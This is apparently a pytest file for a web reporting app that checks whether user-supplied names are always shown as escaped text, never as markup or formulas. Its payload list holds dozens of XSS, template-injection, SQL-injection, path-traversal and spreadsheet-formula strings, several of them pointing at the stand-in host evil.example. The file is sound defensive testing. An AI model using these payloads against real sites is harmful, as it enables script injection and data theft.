"""Names in the data are written by strangers: on every face they are text and nothing else."""

import csv
import io
import re
from html.parser import HTMLParser

import pytest

MARK = "zq7"
"""Stands in every hostile name, so that each place where one comes out can be found."""
PAYLOADS = [
    "<script>alert('zq7')</script>",
    "<ScRiPt>alert('zq7')</sCrIpT>",
    "<script src=//evil.example/zq7.js></script>",
    "</script><script>alert('zq7')</script>",
    "<scr<script>ipt>alert('zq7')</scr</script>ipt>",
    "<img src=x onerror=alert('zq7')>",
    "<img src=x onerror=alert`zq7`>",
    '"><img src=x onerror=alert("zq7")>',
    "'><img src=x onerror=alert('zq7')>",
    "</title><script>alert('zq7')</script>",
    "</style><script>alert('zq7')</script>",
    "</textarea><script>alert('zq7')</script>",
    "</table><script>alert('zq7')</script>",
    "--><script>alert('zq7')</script><!--",
    "<!--zq7--><script>alert('zq7')</script>",
    "<![CDATA[<script>alert('zq7')</script>]]>",
    "<svg onload=alert('zq7')>",
    "<svg><script>alert('zq7')</script></svg>",
    "</svg><script>alert('zq7')</script>",
    "</text><script>alert('zq7')</script><text>",
    "<svg><animate onbegin=alert('zq7') attributeName=x dur=1s>",
    "<math><mi xlink:href=javascript:alert('zq7')>x",
    "<body onload=alert('zq7')>",
    "<iframe src=javascript:alert('zq7')></iframe>",
    "<iframe srcdoc='<script>alert(\"zq7\")</script>'></iframe>",
    "<object data=javascript:alert('zq7')>",
    "<embed src=javascript:alert('zq7')>",
    "<a href=javascript:alert('zq7')>zq7</a>",
    "<a href=\"data:text/html,<script>alert('zq7')</script>\">zq7</a>",
    "<form action=//evil.example/zq7><input type=submit>",
    "<input autofocus onfocus=alert('zq7')>",
    "<details open ontoggle=alert('zq7')>",
    "<video><source onerror=alert('zq7')></video>",
    "<marquee onstart=alert('zq7')>",
    "<link rel=stylesheet href=//evil.example/zq7.css>",
    "<style>@import '//evil.example/zq7.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/zq7'>",
    "<base href=//evil.example/zq7/>",
    "\" onmouseover=alert('zq7') x=\"",
    "' onmouseover=alert('zq7') x='",
    "` onmouseover=alert('zq7') x=`",
    '" style="background:url(//evil.example/zq7)',
    "javascript:alert('zq7')",
    "{{ zq7.__class__ }}",
    "{% for zq7 in ().__class__.__mro__ %}{% endfor %}",
    "{# zq7 #}",
    "{zq7}",
    "{0} zq7",
    "{zq7:EUR}",
    "{{zq7}}",
    "%(zq7)s",
    "${alert('zq7')}",
    "#{zq7}",
    "=cmd|' /C calc'!zq7",
    "+zq7()",
    "-zq7()",
    "@SUM(zq7)",
    '=HYPERLINK("http://evil.example/zq7")',
    "../../etc/zq7",
    "..%2f..%2fzq7",
    "zq7'; DROP TABLE spend; --",
    'zq7" OR 1=1 --',
    '#link("//evil.example/zq7")[x]',
    '#eval("zq7")',
    "$zq7$ *zq7* _zq7_ `zq7`",
    "&lt;script&gt;alert('zq7')&lt;/script&gt;",
    "\u202ezq7\u202c",
    "<ſcript>alert('zq7')</ſcript>",
    "＜script＞alert('zq7')＜/script＞",
    "zq7\u2028alert('zq7')",
    "var(--zq7)",
    "zq7\\u003cscript\\u003e",
    "\\\"zq7\\'",
]
SHOPS = (PAYLOADS[0], "{zq7:EUR}")
WRAPPED = {"tspan", "tspan x", "tspan dy"}
"""A long label in a chart is broken into lines, whatever it says."""
PAGES = ["/", "/metrics", "/evidence", "/data", "/ledger"]


@pytest.fixture(scope="module")
def hostile(make_project, start_for_long, tmp_path_factory):
    """A served project all of whose names were written by a stranger."""
    folder = tmp_path_factory.mktemp("hostile") / "essai"
    make_project(folder, businesses=SHOPS, channels=PAYLOADS, campaign=PAYLOADS[5], arm=PAYLOADS[16])
    return start_for_long(folder)


@pytest.fixture(scope="module")
def paths(hostile):
    """All pages of it, those of each piece of evidence too; the first one in both languages."""
    found = hostile.ask("/api/v1/evidence").result
    assert len(found) == 3
    return ["/fr/", *(f"/en{path}" for path in (*PAGES, *(f"/evidence/{one['id']}" for one in found)))]


class Shape(HTMLParser):
    """The elements and attributes of a page, whatever its text says."""

    def __init__(self, text):
        super().__init__()
        self.parts, self.addresses, self.words = set(), set(), []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.parts |= {tag, *(f"{tag} {name}" for name, _ in attrs)}
        self.addresses |= {value for name, value in attrs if name in ("href", "src", "action", "xlink:href")}
        self.words += [value or "" for _, value in attrs]

    def handle_data(self, data):
        self.words.append(data)


def test_there_are_more_than_sixty():
    assert len(set(PAYLOADS)) >= 60
    assert all(MARK in payload for payload in PAYLOADS)


def test_every_name_comes_through_as_it_was_written(hostile):
    """Else the tests below would find nothing because nothing is there."""
    subjects = set()
    for one in hostile.ask("/api/v1/evidence").result:
        subjects |= {*one["evidence"]["estimates"], *one["evidence"]["unknown"]}
    assert set(PAYLOADS) <= subjects
    assert {one["business"] for one in hostile.ask("/api/v1/metrics").result} == set(SHOPS)


def test_a_hostile_name_adds_no_element_and_no_attribute(hostile, site, paths):
    ids = [one["id"] for one in site.ask("/api/v1/evidence").result]
    harmless = [Shape(site.ask(f"/en{path}").text) for path in (*PAGES, *(f"/evidence/{one}" for one in ids))]
    known = WRAPPED.union(*(shape.parts for shape in harmless))
    for path in paths:
        shape = Shape(hostile.ask(path).text)
        assert shape.parts <= known, path
        assert {one for one in shape.addresses if not one.startswith(("/", "#", "data:,"))} == set(), path
        assert {one for one in shape.addresses if one.startswith("//")} == set(), path


def test_every_name_is_shown_as_text(hostile, paths):
    shown = " ".join(word for path in paths for word in Shape(hostile.ask(path).text).words)
    spaced = re.sub(r"\s+", " ", shown)
    missing = [payload for payload in (*PAYLOADS, *SHOPS) if re.sub(r"\s+", " ", payload) not in spaced]
    assert missing == []


def test_no_cell_of_a_table_begins_a_formula(hostile):
    for one in hostile.ask("/api/v1/evidence").result:
        text = hostile.ask(f"/en/evidence/{one['id']}/table.csv").text
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))):
            for cell in row:
                assert not re.match(r"[=+@\t\r|]|-(?![\d.])", cell), cell


def test_report_files_are_made_of_them_too(hostile):
    assert hostile.ask("/en/decision.pdf").body.startswith(b"%PDF-")
    assert Shape(hostile.ask("/en/decision.html").text).parts.isdisjoint(
        {"script", "iframe", "object", "embed", "form"}
    )


@pytest.mark.browser
def test_a_browser_runs_none_of_it(hostile, paths, visit):
    for path in paths:
        seen = visit(path, base=hostile)
        assert seen.complaints == [], path
        assert seen.foreign == [], path
